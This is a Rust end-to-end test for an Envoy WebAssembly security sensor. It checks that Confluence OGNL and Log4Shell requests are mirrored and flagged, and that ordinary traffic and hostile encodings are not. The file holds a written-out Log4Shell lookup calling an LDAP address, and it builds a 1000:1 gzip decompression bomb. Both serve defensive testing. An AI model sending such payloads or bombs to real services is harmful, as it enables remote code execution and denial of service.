#![cfg(feature = "e2e")]
//! What the backend decodes, the scan decodes, in a real Envoy running meshsight.wasm
//! (envoy-config/e2e/one_pass.yaml, mirror and audit): CVE-2021-26084's OGNL as a multipart
//! part, a Log4Shell lookup in a gzip JSON body and as a `Basic` user name are copied to the
//! sensor with their category; an ordinary image upload, an ordinary gzip JSON body and ordinary
//! credentials are not. Hostile encodings (a truncated gzip stream, a 1000:1 bomb, a nested
//! multipart, a malformed multipart, invalid base64) reach the application unharmed and are not
//! copied; the audit record names what decoding found wrong (`unmapped.meshsight.mirror.findings`).
// Helpers outside `#[test]` functions are test code too.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeMap;
use std::time::Duration;

use meshsight_cli::signatures::test_requests::{parse_requests, TestRequest};
use meshsight_rig::{send, Collector, EchoUpstream, Envoy, HttpRequest, Sensor};
use miniz_oxide::deflate::compress_to_vec;
use serde_json::Value;

const CORPUS: &str = include_str!("../../../shared/corpus/signatures.ndjson");
const WAIT: Duration = Duration::from_secs(20);

const CONFIG: &str = r#"{
  "mirror": {"targets": {"ids": {"cluster": "sensor", "delivery": "dispatch", "max_rps": 10000, "burst": 10000, "max_in_flight": 1000}}, "hold_for_body": true},
  "audit": {"format": "ocsf", "sink": {"http": {"cluster": "collector", "path": "/v1/audit", "flush_interval_ms": 100}}}
}"#;

/// The corpus entry named `name`.
fn entry(corpus: &[TestRequest], name: &str) -> TestRequest {
    corpus
        .iter()
        .find(|r| r.name.as_deref() == Some(name))
        .cloned()
        .unwrap_or_else(|| panic!("no corpus entry {name:?}"))
}

/// A gzip member of `data`.
fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    out.extend(compress_to_vec(data, 9));
    out.extend([0u8; 8]);
    out
}

/// A request the test sends: id, method, path, headers, body, the category a copy must name
/// (`None`: no copy) and the decoding finding its record must name (`None`: none).
struct Case {
    id: &'static str,
    method: String,
    path: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    copied_as: Option<&'static str>,
    finding: Option<&'static str>,
}

fn from_corpus(id: &'static str, r: TestRequest, copied_as: Option<&'static str>) -> Case {
    Case {
        id,
        body: r.body_bytes(),
        method: r.method,
        path: r.path,
        headers: r.headers,
        copied_as,
        finding: None,
    }
}

fn hostile(
    id: &'static str,
    path: &str,
    headers: &[(&str, &str)],
    body: Vec<u8>,
    finding: Option<&'static str>,
) -> Case {
    Case {
        id,
        method: "POST".into(),
        path: path.into(),
        headers: headers
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        body,
        copied_as: None,
        finding,
    }
}

#[test]
fn decoded_views_are_copied_look_alikes_and_hostile_encodings_are_not() {
    let corpus = parse_requests(CORPUS.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    let json = [
        ("content-type", "application/json"),
        ("content-encoding", "gzip"),
    ];
    let ordinary = gzip(br#"{"order":{"note":"leave at the door","qty":3,"tags":["a","b","c"]}}"#);
    let mut bomb_json = br#"{"a":""#.to_vec();
    bomb_json.extend(std::iter::repeat_n(b'a', 1 << 20));
    bomb_json.extend(br#"","b":"${jndi:ldap://203.0.113.7/a}"}"#);
    let bomb = gzip(&bomb_json);
    // About 1000:1 (deflate tops out near 1032:1).
    assert!(bomb.len() * 900 < bomb_json.len(), "{} bytes", bomb.len());
    let nested = b"--o\r\nContent-Disposition: form-data; name=files\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\nContent-Disposition: file; filename=a.txt\r\n\r\nhello\r\n--i--\r\n--o--\r\n".to_vec();
    // Part headers never ended, no closing delimiter.
    let malformed =
        b"--o\r\nContent-Disposition: form-data; name=note\r\nhello with no blank line\r\n"
            .to_vec();
    let cases = [
        from_corpus(
            "multipart-ognl",
            entry(&corpus, "26084 OGNL queryString as a multipart part"),
            Some("confluence_ognl"),
        ),
        from_corpus(
            "gzip-log4shell",
            entry(&corpus, "Log4Shell lookup in a gzip JSON body"),
            Some("log4shell"),
        ),
        from_corpus(
            "basic-log4shell",
            entry(&corpus, "Log4Shell lookup as the Basic user name"),
            Some("log4shell"),
        ),
        from_corpus(
            "image-upload",
            entry(&corpus, "multipart upload of an ordinary image"),
            None,
        ),
        from_corpus(
            "gzip-ordinary",
            entry(&corpus, "gzip JSON body with ordinary content"),
            None,
        ),
        from_corpus(
            "basic-ordinary",
            entry(&corpus, "ordinary Basic credentials"),
            None,
        ),
        hostile(
            "gzip-truncated",
            "/api/orders",
            &json,
            ordinary[..ordinary.len() / 2].to_vec(),
            Some("body_encoding_broken"),
        ),
        hostile(
            "gzip-bomb",
            "/api/orders",
            &json,
            bomb,
            Some("body_inflate_bomb"),
        ),
        hostile(
            "multipart-nested",
            "/upload",
            &[("content-type", "multipart/form-data; boundary=o")],
            nested,
            None,
        ),
        hostile(
            "multipart-malformed",
            "/upload",
            &[("content-type", "multipart/form-data; boundary=o")],
            malformed,
            Some("multipart_malformed"),
        ),
        hostile(
            "basic-invalid",
            "/admin",
            &[("authorization", "Basic $$$not*base64$$$")],
            Vec::new(),
            Some("basic_credentials_invalid"),
        ),
    ];

    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/e2e/one_pass.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .var("MESHSIGHT_CONFIG", CONFIG.to_string())
        .start()
        .unwrap_or_else(|err| panic!("the plugin must start: {err}"));
    for c in &cases {
        let mut request = HttpRequest::new(&c.method, c.path.as_bytes())
            .header("x-request-id", c.id)
            .header("host", "shop.example.com");
        for (name, value) in &c.headers {
            request = request.header(name, value);
        }
        if c.method != "GET" {
            request = request.body(&c.body);
        }
        let status = send(envoy.port(), &request).status;
        assert_eq!(
            status, 200,
            "{}: the request must reach the application",
            c.id
        );
    }
    let ids: Vec<String> = cases.iter().map(|c| c.id.to_string()).collect();
    let records: BTreeMap<String, Value> = collector
        .wait_for_records(&ids, WAIT)
        .unwrap_or_else(|e| panic!("{e}"));
    // Copies are sent on the root's 1 ms tick; give the last ones a moment.
    std::thread::sleep(Duration::from_millis(500));
    let copies = sensor.requests();
    let reached: Vec<String> = upstream
        .requests()
        .iter()
        .filter_map(|q| q.header("x-request-id").map(str::to_string))
        .collect();
    for c in &cases {
        assert!(
            reached.contains(&c.id.to_string()),
            "{}: not at the application",
            c.id
        );
        let copy = copies
            .iter()
            .find(|r| r.header("x-request-id") == Some(c.id));
        let mirror = &records[c.id]["unmapped"]["meshsight"]["mirror"];
        match c.copied_as {
            Some(category) => {
                let copy = copy.unwrap_or_else(|| panic!("{}: no copy; decision {mirror}", c.id));
                let flagged = copy.header("x-meshsight-mirror-signatures").unwrap_or("");
                assert!(
                    flagged.split(',').any(|f| f == category),
                    "{}: flagged {flagged:?}, not {category}",
                    c.id
                );
                assert_eq!(
                    copy.body, c.body,
                    "{}: the copy carries the body as sent",
                    c.id
                );
                assert!(
                    mirror["signatures"]
                        .as_array()
                        .is_some_and(|s| s.iter().any(|x| x == category)),
                    "{}: record {mirror}",
                    c.id
                );
            }
            None => assert!(copy.is_none(), "{}: copied; decision {mirror}", c.id),
        }
        match c.finding {
            Some(f) => assert_eq!(
                mirror["findings"],
                serde_json::json!([f]),
                "{}: record {mirror}",
                c.id
            ),
            None => assert!(
                mirror.get("findings").is_none(),
                "{}: record {mirror}",
                c.id
            ),
        }
    }
    println!(
        "{} requests: {} copied as expected, {} look-alikes and hostile encodings not copied, {} decoding findings recorded",
        cases.len(),
        cases.iter().filter(|c| c.copied_as.is_some()).count(),
        cases.iter().filter(|c| c.copied_as.is_none()).count(),
        cases.iter().filter(|c| c.finding.is_some()).count()
    );
}
